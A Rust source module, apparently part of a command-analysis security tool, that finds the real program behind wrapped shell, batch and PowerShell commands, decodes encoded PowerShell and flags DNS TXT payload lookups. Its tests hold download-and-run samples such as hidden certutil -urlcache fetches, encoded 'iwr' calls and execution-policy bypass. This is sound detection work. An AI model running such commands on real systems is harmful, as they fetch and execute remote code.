//! Which program a command runs: basenames (case-insensitive, `.exe`
//! dropped, quoted and full paths, `"$(command -v X)"`), wrappers looked
//! through (`sudo`, `env`, `timeout`, `nohup`, `xargs`, `busybox APPLET`,
//! `start`, `call`, PowerShell `Start-Process -FilePath … -ArgumentList …`),
//! and what a program does with its arguments (shells' `-c`, PowerShell's
//! `-Command`/`-EncodedCommand`, interpreters' code flags).

use crate::catalog::RuleLang;

use super::{Lang, decode};

const RESERVED: &[&str] = &[
    "if", "then", "else", "elif", "do", "while", "until", "!", "{", "}", "time", "builtin",
    "noglob",
];

/// The PowerShell code of a powershell.exe command line: `-EncodedCommand`
/// (any unambiguous abbreviation, any case) decoded from base64 UTF-16LE,
/// else the text after `-Command` or after the options.
pub fn powershell_command(args: &str) -> Option<String> {
    let words: Vec<&str> = args.split_whitespace().collect();
    let mut i = 0;
    while i < words.len() {
        let w = words[i].trim_matches('"');
        let l = w.to_ascii_lowercase();
        let opt = l.trim_start_matches(['-', '/']);
        if !(l.starts_with('-') || l.starts_with('/')) {
            break;
        }
        if opt == "e" || opt == "ec" || (opt.len() >= 2 && "encodedcommand".starts_with(opt)) {
            return words.get(i + 1).and_then(|b| decode::encoded_powershell(b));
        }
        if opt == "c" || (opt.len() >= 2 && "command".starts_with(opt)) {
            return Some(words[i + 1..].join(" ").trim_matches('"').to_string());
        }
        let takes_value = [
            "w",
            "windowstyle",
            "ep",
            "ex",
            "exec",
            "executionpolicy",
            "version",
            "v",
            "inputformat",
            "outputformat",
            "configurationname",
            "wd",
            "workingdirectory",
            "f",
            "file",
        ];
        if takes_value
            .iter()
            .any(|t| opt == *t || (opt.len() >= 3 && t.starts_with(opt)))
        {
            if opt == "f" || "file".starts_with(opt) && opt.len() >= 2 {
                return None;
            }
            i += 2;
        } else {
            i += 1;
        }
    }
    let rest = words.get(i..).unwrap_or_default().join(" ");
    (!rest.is_empty()).then(|| rest.trim_matches('"').to_string())
}

pub fn is_dash_c(a: &str) -> bool {
    a == "-c"
        || a.len() <= 5
            && a.starts_with('-')
            && !a.starts_with("--")
            && a.ends_with('c')
            && a[1..].bytes().all(|b| b.is_ascii_lowercase())
}

/// Programs whose arguments are text shown to a user, or names looked up
/// (help, `Get-Command`), never commands that run.
pub fn is_mention(prog: &str) -> bool {
    matches!(
        prog,
        "get-help"
            | "help"
            | "get-command"
            | "gcm"
            | "get-alias"
            | "gal"
            | "show-command"
            | "update-help"
            | "man"
            | "whatis"
            | "apropos"
            | "write-host"
            | "write-output"
            | "echo"
            | "write-verbose"
            | "write-warning"
            | "write-error"
            | "write-debug"
            | "write-information"
            | "throw"
            | "printf"
    )
}

/// (language, flags that take code) of an interpreter.
pub fn interpreter(prog: &str) -> Option<(RuleLang, &'static [&'static str])> {
    use RuleLang::{Code, Js, Lua, Perl, Php, Python, Ruby};
    let p = prog.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    Some(match p {
        "python" | "pypy" => (Python, &["-c"]),
        "perl" => (Perl, &["-e", "-E"]),
        "ruby" | "jruby" => (Ruby, &["-e"]),
        "irb" | "jirb" => (Ruby, &[]),
        "node" | "nodejs" | "deno" | "bun" => (Js, &["-e", "--eval", "-p", "--print", "eval"]),
        "php" => (Php, &["-r"]),
        "lua" | "luajit" | "texlua" => (Lua, &["-e"]),
        "julia" | "jrunscript" | "rscript" | "osascript" => (Code, &["-e"]),
        "jjs" | "tclsh" | "wish" => (Code, &["-e"]),
        "gdb" => (Python, &["-ex", "--eval-command"]),
        "vim" | "vi" | "nvim" | "ex" | "view" => (Python, &["-c", "--cmd"]),
        _ => return None,
    })
}

/// The rule language of a command language.
pub fn rule_lang(l: Lang) -> RuleLang {
    match l {
        Lang::Sh => RuleLang::Sh,
        Lang::Batch => RuleLang::Batch,
        Lang::PowerShell => RuleLang::PowerShell,
    }
}

/// The basename of a program word, lowercased, `.exe` dropped.
pub fn prog_name(w: &str) -> String {
    let mut w = w.trim_start_matches('(').trim_matches(['"', '\'']);
    // "$(command -v curl || command -v wget)", `which curl`
    if let Some(inner) = w
        .strip_prefix("$(")
        .and_then(|x| x.strip_suffix(')'))
        .or_else(|| w.strip_prefix('`').and_then(|x| x.strip_suffix('`')))
    {
        let mut words = inner.split_whitespace();
        let first = words.next().unwrap_or_default();
        let second = words.next().unwrap_or_default();
        w = match (first, second) {
            ("command", "-v" | "-V") | ("type", "-p" | "-P") => words.next().unwrap_or(w),
            ("which" | "whence", x) => x,
            _ => w,
        };
    }
    // The command interpreter by its variable (`%COMSPEC% /c …`).
    if w.eq_ignore_ascii_case("%comspec%") || w.eq_ignore_ascii_case("$env:comspec") {
        return "cmd".to_string();
    }
    let base = w
        .rsplit(['/', '\\'])
        .next()
        .unwrap_or_default()
        .to_ascii_lowercase();
    base.strip_suffix(".exe")
        .map(str::to_string)
        .unwrap_or(base)
}

/// `C:\Program Files (x86)\Dir\x.exe` written without quotes (as LOLBAS
/// writes it): the words up to the one ending in `.exe` are the program.
pub fn join_spaced_path(argv: &mut Vec<String>) {
    let Some(first) = argv.first() else {
        return;
    };
    if !first.to_ascii_lowercase().ends_with("\\program") {
        return;
    }
    let exe = argv
        .iter()
        .take(6)
        .position(|w| w.to_ascii_lowercase().ends_with(".exe"));
    if let Some(k) = exe {
        let joined = argv[..=k].join(" ");
        argv.splice(..=k, [joined]);
    }
}

pub fn basename(w: &str) -> String {
    let w = w.trim_matches(['"', '\'']);
    let w = w.split(['?', '#']).next().unwrap_or_default();
    w.trim_end_matches(['/', '\\'])
        .rsplit(['/', '\\'])
        .next()
        .unwrap_or_default()
        .to_ascii_lowercase()
}

/// Options of a wrapper from `j`, skipping values of `with_value`; the
/// index of the first word that is not an option.
fn skip_opts(argv: &[String], mut j: usize, with_value: &[&str]) -> usize {
    while let Some(a) = argv.get(j) {
        if a == "--" {
            return j + 1;
        }
        if !a.starts_with('-') || a == "-" {
            break;
        }
        j += if with_value.contains(&a.as_str()) {
            2
        } else {
            1
        };
    }
    j
}

/// Skip words while `f` holds.
fn skip_while(argv: &[String], mut j: usize, f: impl Fn(&str) -> bool) -> usize {
    while argv.get(j).is_some_and(|a| f(a)) {
        j += 1;
    }
    j
}

/// What a wrapper at `i` leaves to run: the index of the next word, or
/// `None` when nothing runs (`command -v X`, `call :label`); `Some(i)`
/// back when `p` is no wrapper.
fn past_wrapper(lang: Lang, p: &str, argv: &[String], i: usize) -> Option<usize> {
    let next = argv.get(i + 1).map(String::as_str);
    Some(match p {
        "sudo" | "doas" => skip_opts(
            argv,
            i + 1,
            &["-u", "-g", "-C", "-D", "-h", "-p", "-r", "-t", "-T", "-U"],
        ),
        "env" => {
            let j = skip_opts(argv, i + 1, &["-u", "-C", "-S", "--unset", "--chdir"]);
            skip_while(argv, j, |a| a.contains('=') && !a.starts_with('-'))
        }
        "exec" => skip_opts(argv, i + 1, &["-a"]),
        "sshpass" => skip_opts(argv, i + 1, &["-p", "-f", "-d", "-P"]),
        "timeout" => skip_opts(argv, i + 1, &["-s", "-k", "--signal", "--kill-after"]) + 1,
        "nohup" | "setsid" | "stdbuf" | "unbuffer" | "torsocks" | "proxychains"
        | "proxychains4" | "fakeroot" | "catchsegv" => skip_opts(argv, i + 1, &["-f"]),
        "nice" | "ionice" | "chrt" | "taskset" => {
            let j = skip_opts(argv, i + 1, &["-n", "-c", "-p"]);
            skip_while(argv, j, |a| a.parse::<i64>().is_ok() || a.starts_with("0x"))
        }
        "xargs" => skip_opts(
            argv,
            i + 1,
            &["-I", "-n", "-P", "-d", "-L", "-s", "-E", "-a", "-i"],
        ),
        "watch" => skip_opts(argv, i + 1, &["-n", "-d"]),
        "parallel" => skip_opts(
            argv,
            i + 1,
            &[
                "-j",
                "--jobs",
                "-S",
                "--sshlogin",
                "-a",
                "--arg-file",
                "-d",
                "--delimiter",
            ],
        ),
        // expect's `spawn [-noecho] CMD …` runs CMD
        "spawn" if lang == Lang::Sh => skip_opts(argv, i + 1, &[]),
        "find" => past_find(argv, i),
        "flock" => past_flock(argv, i),
        "conhost" => skip_opts(argv, i + 1, &["--width", "--height"]),
        "busybox" | "toybox" => i + 1,
        "wsl" | "bash.exe" => {
            let j = skip_opts(
                argv,
                i + 1,
                &["-d", "-u", "--distribution", "--user", "--cd"],
            );
            j + usize::from(argv.get(j).is_some_and(|a| a == "-e" || a == "--exec"))
        }
        "command" if matches!(next, Some("-v" | "-V")) => return None,
        "command" => skip_opts(argv, i + 1, &[]),
        "call" if lang != Lang::Sh && next.is_some_and(|a| a.starts_with(':')) => return None,
        "call" if lang != Lang::Sh => i + 1,
        "start" if lang == Lang::Batch => {
            let mut j = i + 1;
            while argv
                .get(j)
                .is_some_and(|a| a.is_empty() || a.starts_with('/'))
            {
                j += 1 + usize::from(argv[j].eq_ignore_ascii_case("/d"));
            }
            j
        }
        "." | "&" if lang == Lang::PowerShell => i + 1,
        "if" if lang == Lang::Batch => batch_if(argv, i + 1),
        _ => past_user_wrapper(lang, p, argv, i),
    })
}

/// Privilege-dropping and supervision wrappers (s6, runit, daemontools,
/// container entrypoints): `gosu app CMD`, `chpst -u app CMD`; `i` back
/// when `p` is none of them.
fn past_user_wrapper(lang: Lang, p: &str, argv: &[String], i: usize) -> usize {
    match p {
        "gosu" | "su-exec" | "s6-setuidgid" | "setuidgid" | "envuidgid" | "s6-envuidgid" => {
            skip_opts(argv, i + 1, &[]) + 1
        }
        "chpst" => skip_opts(
            argv,
            i + 1,
            &[
                "-u", "-U", "-e", "-n", "-l", "-L", "-m", "-d", "-o", "-p", "-f", "-c", "-b", "-/",
            ],
        ),
        "setpriv" | "runuser" | "s6-applyuidgid" | "unshare" | "nsenter" => skip_opts(
            argv,
            i + 1,
            &[
                "-u",
                "-g",
                "-G",
                "--user",
                "--group",
                "--groups",
                "--reuid",
                "--regid",
                "--inh-caps",
                "--bounding-set",
                "--securebits",
                "-U",
                "-t",
                "--target",
            ],
        ),
        "with-contenv" | "s6-notifyoncheck" | "fdmove" | "fdclose" if lang == Lang::Sh => {
            let j = skip_opts(argv, i + 1, &["-d", "-n", "-s", "-t", "-w", "-c"]);
            skip_while(argv, j, |a| a.parse::<i64>().is_ok())
        }
        _ => i,
    }
}

/// `flock LOCK CMD …` runs CMD; `flock LOCK -c 'STRING'` runs a shell
/// string (flock is then the program, see `nested`).
fn past_flock(argv: &[String], i: usize) -> usize {
    let j = skip_opts(argv, i + 1, &["-w", "-E"]) + 1;
    if argv.get(j).is_some_and(|a| a == "-c" || a == "--command") {
        i
    } else {
        j
    }
}

/// `find … -exec / -execdir / -ok CMD … ;` runs CMD; without them find is
/// the program.
fn past_find(argv: &[String], i: usize) -> usize {
    argv[i + 1..]
        .iter()
        .position(|a| matches!(a.as_str(), "-exec" | "-execdir" | "-ok" | "-okdir"))
        .map_or(i, |k| i + 2 + k)
}

/// Past a batch `if` condition (`[not] [/i] exist X`, `defined X`,
/// `errorlevel N`, `A==B`): the index of the command it guards.
fn batch_if(argv: &[String], mut j: usize) -> usize {
    let low = |j: usize| {
        argv.get(j)
            .map(|a| a.to_ascii_lowercase())
            .unwrap_or_default()
    };
    while matches!(low(j).as_str(), "not" | "/i") {
        j += 1;
    }
    match low(j).as_str() {
        "exist" | "defined" | "errorlevel" | "cmdextversion" => j + 2,
        // A==B as one word, or A == B / A EQU B as three.
        w if w.contains("==") => j + 1,
        _ if matches!(
            low(j + 1).as_str(),
            "==" | "equ" | "neq" | "lss" | "leq" | "gtr" | "geq"
        ) =>
        {
            j + 3
        }
        _ => j + 1,
    }
}

/// `NAME=value` as one word (`while IFS= read …`): an assignment, not a program.
fn is_assignment_word(w: &str) -> bool {
    w.split_once('=').is_some_and(|(k, _)| {
        !k.is_empty()
            && k.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
            && !k.as_bytes()[0].is_ascii_digit()
    })
}

/// The program a command runs and its index in argv, looking through
/// wrappers and reserved words. `None` when nothing runs (`command -v X`).
pub fn unwrap(lang: Lang, argv: &[String]) -> Option<(String, usize)> {
    let mut i = 0;
    for _ in 0..16 {
        let w = argv.get(i)?;
        let p = prog_name(w);
        let batch_if = lang == Lang::Batch && p == "if";
        let assignment = lang == Lang::Sh && i > 0 && is_assignment_word(w);
        if !batch_if && RESERVED.contains(&p.as_str())
            || w.is_empty()
            || w == "&"
            || w == "-"
            || assignment
        {
            i += 1;
            continue;
        }
        let next = past_wrapper(lang, &p, argv, i)?;
        if next == i {
            return Some((p, i));
        }
        i = next;
    }
    None
}

/// PowerShell `Start-Process` (`saps`, `start`) as the command it starts:
/// `-FilePath` (or the first positional word) then `-ArgumentList` split
/// into words. `None` when argv is something else.
pub fn start_process(argv: &[String]) -> Option<Vec<String>> {
    let first = argv.first()?.to_ascii_lowercase();
    if !matches!(first.as_str(), "start-process" | "saps" | "start") {
        return None;
    }
    let mut file = None;
    let mut args: Vec<String> = Vec::new();
    let mut i = 1;
    while i < argv.len() {
        let a = argv[i].to_ascii_lowercase();
        // A parameter name is one word; "-enc X" or "-enc,X" is an argument.
        let a = if a.contains([' ', ',']) {
            format!("'{a}")
        } else {
            a
        };
        let value = argv.get(i + 1).cloned().unwrap_or_default();
        if a.starts_with('-') && a.len() >= 3 && "-filepath".starts_with(a.as_str()) {
            file = Some(value);
        } else if a.starts_with('-')
            && a.len() >= 3
            && ("-argumentlist".starts_with(a.as_str()) || a == "-args")
        {
            args.extend(
                value
                    .split([',', ' '])
                    .filter(|w| !w.is_empty())
                    .map(|w| w.trim_matches(['"', '\'']).to_string()),
            );
        } else if a.starts_with('-') {
            let takes = [
                "-windowstyle",
                "-workingdirectory",
                "-verb",
                "-credential",
                "-redirectstandardoutput",
                "-redirectstandardinput",
                "-redirectstandarderror",
            ];
            i += 1 + usize::from(
                takes
                    .iter()
                    .any(|t| t.starts_with(a.as_str()) && a.len() >= 3),
            );
            continue;
        } else if file.is_none() {
            file = Some(argv[i].clone());
            i += 1;
            continue;
        } else {
            args.extend(
                argv[i]
                    .split([',', ' '])
                    .filter(|w| !w.is_empty())
                    .map(str::to_string),
            );
            i += 1;
            continue;
        }
        i += 2;
    }
    let mut out = vec![file?];
    out.extend(args);
    Some(out)
}

/// Does `a` name an executable mode (`+x`, `755`, `u+rwx`)?
pub fn is_exec_mode(a: &str) -> bool {
    if a.starts_with('-') {
        return false;
    }
    if a.bytes().all(|b| (b'0'..=b'7').contains(&b)) && (3..=4).contains(&a.len()) {
        return a.bytes().rev().take(3).any(|b| (b - b'0') & 1 == 1);
    }
    a.split(',').any(|p| {
        let p = p.trim_start_matches(['u', 'g', 'o', 'a']);
        (p.starts_with('+') || p.starts_with('=')) && p.contains('x')
    })
}

/// A DNS query for TXT records (`dig +short TXT name`, `host -t txt name`,
/// `nslookup -q=txt name`, `Resolve-DnsName name -Type TXT`): what it
/// prints is text another host chose, a payload once decoded or run.
pub fn is_dns_txt_query(prog: &str, rest: &[String]) -> bool {
    let txt = |a: &str| {
        let l = a.to_ascii_lowercase();
        l == "txt"
            || ["-q=txt", "-type=txt", "-querytype=txt", "-t=txt", "-ttxt"].contains(&l.as_str())
            || l.strip_prefix("-type:").is_some_and(|v| v == "txt")
    };
    matches!(
        prog,
        "dig" | "host" | "nslookup" | "drill" | "kdig" | "delv" | "resolve-dnsname"
    ) && rest.iter().any(|a| txt(a.trim_matches(['\'', '"'])))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn v(s: &[&str]) -> Vec<String> {
        s.iter().map(|x| x.to_string()).collect()
    }

    #[test]
    fn wrappers_are_looked_through() {
        let cases: &[(&[&str], &str)] = &[
            (&["sudo", "-u", "root", "-E", "curl", "x"], "curl"),
            (&["s6-setuidgid", "abc", "wget", "x"], "wget"),
            (
                &["chpst", "-u", "app:app", "-e", "/etc/env", "aria2c", "x"],
                "aria2c",
            ),
            (
                &[
                    "setpriv",
                    "--reuid=1000",
                    "--regid=1000",
                    "--init-groups",
                    "curl",
                    "x",
                ],
                "curl",
            ),
            (&["su-exec", "nobody:nogroup", "tftp", "x"], "tftp"),
            (&["runuser", "-u", "app", "--", "lftp", "x"], "lftp"),
            (&["fdmove", "-c", "2", "1", "curl", "x"], "curl"),
            (&["spawn", "-noecho", "sftp", "x"], "sftp"),
            (&["env", "A=1", "timeout", "30", "wget"], "wget"),
            (&["nohup", "nice", "-n", "5", "/usr/bin/curl"], "curl"),
            (&["busybox", "tftp"], "tftp"),
            (&["sshpass", "-p", "pw", "scp"], "scp"),
            (&["$(command -v curl)", "-o"], "curl"),
            (&["$(command -v curl || command -v wget)", "-o"], "curl"),
            (&["`which wget`", "-q"], "wget"),
            (&["C:\\Windows\\System32\\curl.exe"], "curl"),
            (&["xargs", "-n1", "curl"], "curl"),
            (&["if", "!", "wget"], "wget"),
        ];
        for (argv, want) in cases {
            assert_eq!(unwrap(Lang::Sh, &v(argv)).unwrap().0, *want, "{argv:?}");
        }
        assert_eq!(unwrap(Lang::Sh, &v(&["command", "-v", "curl"])), None);
        assert_eq!(
            unwrap(Lang::Batch, &v(&["start", "", "/b", "mshta.exe", "x"]))
                .unwrap()
                .0,
            "mshta"
        );
        assert_eq!(
            unwrap(
                Lang::Batch,
                &v(&["if", "not", "exist", "C:\\a.exe", "(curl", "-o", "x"])
            )
            .unwrap()
            .0,
            "curl"
        );
        assert_eq!(
            unwrap(Lang::PowerShell, &v(&["&", "C:\\x\\IMEWDBLD.exe", "u"]))
                .unwrap()
                .0,
            "imewdbld"
        );
    }

    #[test]
    fn start_process_is_the_program_it_starts() {
        assert_eq!(
            start_process(&v(&[
                "Start-Process",
                "-FilePath",
                "C:\\w\\certutil.exe",
                "-ArgumentList",
                "-urlcache -f http://h/x a.exe",
                "-WindowStyle",
                "Hidden"
            ])),
            Some(v(&[
                "C:\\w\\certutil.exe",
                "-urlcache",
                "-f",
                "http://h/x",
                "a.exe"
            ]))
        );
        assert_eq!(
            start_process(&v(&["saps", "powershell", "-enc,AAAA"])),
            Some(v(&["powershell", "-enc", "AAAA"]))
        );
        assert_eq!(start_process(&v(&["Get-Item", "x"])), None);
    }

    #[test]
    fn encoded_powershell() {
        // "iwr http://h/x" in UTF-16LE, base64.
        let b = "aQB3AHIAIABoAHQAdABwADoALwAvAGgALwB4AA==";
        for flag in ["-enc", "-EncodedCommand", "-e", "-ec", "/ENC", "-eNcOdEdC"] {
            let code = powershell_command(&format!("-NoP {flag} {b}")).unwrap();
            assert_eq!(code, "iwr http://h/x", "{flag}");
        }
        assert_eq!(powershell_command("-c \"iwr x\"").unwrap(), "iwr x");
        assert_eq!(
            powershell_command("-ep bypass -w hidden iwr x").unwrap(),
            "iwr x"
        );
        assert_eq!(powershell_command("-File x.ps1"), None);
    }

    #[test]
    fn exec_modes() {
        for m in ["+x", "u+x", "755", "0700", "a+rwx", "777"] {
            assert!(is_exec_mode(m), "{m}");
        }
        for m in ["644", "-R", "go-w", "600"] {
            assert!(!is_exec_mode(m), "{m}");
        }
    }
}
